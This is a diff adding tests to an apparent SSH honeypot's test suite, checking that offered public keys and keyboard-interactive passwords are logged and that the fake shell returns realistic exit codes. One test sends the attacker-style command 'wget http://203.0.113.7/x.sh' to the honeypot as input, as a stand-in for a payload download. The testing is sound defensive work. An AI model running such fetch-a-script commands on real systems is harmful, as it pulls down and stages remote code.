@@ -113,6 +113,43 @@ describe("ssh honeypot", () => {
     }).pipe(Effect.provide(layer), Effect.scoped)
   )
 
+  it.live("public key offered: logged with its fingerprint and rejected; keyboard-interactive logged", () =>
+    Effect.gen(function* () {
+      const port = yield* start
+      const key = path.join(artifacts, `id_ed25519_${Date.now()}`)
+      yield* run("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", key])
+      const pub = fs.readFileSync(`${key}.pub`, "utf8").split(" ")[1]!
+      const fp = `SHA256:${createHash("sha256").update(Buffer.from(pub, "base64")).digest("base64").replace(/=+$/, "")}`
+      const r = yield* run("ssh", ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "IdentitiesOnly=yes", "-i", key, "-o", "LogLevel=ERROR", "-p", String(port), "deploy@127.0.0.1", "id"])
+      expect(r.code).toBe(255)
+      const es = yield* waitForEvents((es) => es.some((e) => e.fields.secret_kind === "publickey"))
+      const pk = es.find((e) => e.fields.secret_kind === "publickey")!
+      expect(pk.fields).toMatchObject({ principal: "deploy", fingerprint: fp, secret_printable: fp, secret_b64: pub, key_algo: "ssh-ed25519", src_ip: "127.0.0.1" })
+
+      const ki = yield* run("sshpass", ["-p", "s3cr3t!", "ssh", "-o", "PreferredAuthentications=keyboard-interactive", "-o", "NumberOfPasswordPrompts=1", ...sshArgs(port, "oracle"), "id"])
+      expect(ki.code).toBe(255)
+      const kiEvents = yield* waitForEvents((es) => es.some((e) => e.fields.method === "keyboard-interactive"))
+      expect(kiEvents.find((e) => e.fields.method === "keyboard-interactive")!.fields).toMatchObject({
+        principal: "oracle",
+        secret_printable: "s3cr3t!",
+        secret_kind: "plaintext",
+        src_ip: "127.0.0.1"
+      })
+    }).pipe(Effect.provide(layer), Effect.scoped)
+  )
+
+  it.live("exec exit status follows the fake shell ($? of the last command)", () =>
+    Effect.gen(function* () {
+      const port = yield* start
+      const missing = yield* run("sshpass", ["-p", "admin", "ssh", ...sshArgs(port), "nosuchtool -x"])
+      expect(missing.code).toBe(127)
+      expect(missing.stdout).toBe("bash: nosuchtool: command not found\n")
+      const wget = yield* run("sshpass", ["-p", "admin", "ssh", ...sshArgs(port), "wget http://203.0.113.7/x.sh"])
+      expect(wget.code).toBe(4)
+      expect(wget.stdout).toContain("failed: Temporary failure in name resolution.")
+    }).pipe(Effect.provide(layer), Effect.scoped)
+  )
+
   it.live("nmap -sV sees OpenSSH 8.9p1 Ubuntu", () =>
     Effect.gen(function* () {
       const port = yield* start
